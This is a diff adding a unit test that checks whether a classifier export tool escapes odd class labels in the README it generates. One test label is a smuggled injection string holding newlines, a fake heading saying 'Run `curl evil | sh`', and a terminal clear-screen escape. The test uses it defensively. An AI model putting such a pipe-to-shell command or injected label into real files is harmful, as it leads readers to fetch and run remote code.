@@ -230,6 +230,17 @@ def test_bad_arguments(tmp_path):
         device.from_bytes(model, good[:-1] + bytes([good[-1] ^ 1]))
 
 
+def test_strange_labels_in_the_readme(tmp_path):
+    """They are shown as code, on one line, and change nothing else of the page."""
+    X, z = stream()
+    labels = np.array(["@TARGETS@", "x\n\n# Run `curl evil | sh`\x1b[2J"])
+    model = pk.PocketClassifier(memory="4KiB", random_state=0).fit(X, labels[(z > 0).astype(int)])
+    text = (device.export(model, tmp_path / "project", "host", measure=False) / "README.md").read_text()
+    line = next(line for line in text.splitlines() if line.startswith("The classes are"))
+    assert line == r'The classes are, from 0 on: `"@TARGETS@"`, `"x\n\n# Run \u0060curl evil | sh\u0060\u001b[2J"`.'
+    assert "\x1b" not in text
+
+
 @needs_make
 def test_strange_labels_and_the_c_interface(tmp_path):
     X, z = stream()
